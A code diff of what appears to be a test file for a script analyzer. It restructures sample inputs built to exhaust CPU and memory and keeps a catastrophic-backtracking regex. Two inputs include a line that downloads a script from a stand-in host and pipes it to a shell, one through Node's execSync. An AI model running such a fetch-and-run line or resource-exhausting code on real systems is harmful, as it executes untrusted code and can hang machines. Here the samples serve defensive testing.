@@ -17,10 +17,13 @@ const ordinary = composite('curl https://a.example/x | sh');
 const hanging = composite(`x=${'a'.repeat(60)}b\nif [[ $x =~ ^(a|a)*c$ ]]; then echo; fi`);
 const endless = javascript(
   `require('child_process').execSync('curl https://a.example/x | sh');
-   for (let i = 0; i < 3000; i++) for (let j = 0; j < 3000; j++) for (let k = 0; k < 3000; k++) {}`,
+   const row = () => { for (let i = 0; i < 3000; i++) {} };
+   for (let j = 0; j < 3000; j++) row();`,
 );
 const greedy = javascript(
-  'const all = []; for (let i = 0; i < 2900; i++) for (let j = 0; j < 1000; j++) all.push({ i, j, x: [i, j, {}] })',
+  `const all = [];
+   const row = (i) => { for (let j = 0; j < 1000; j++) all.push({ i, j, x: [i, j, {}] }); };
+   for (let i = 0; i < 2900; i++) row(i);`,
 );
 
 /** What is said of each, in order: verdict, kinds, marks. */
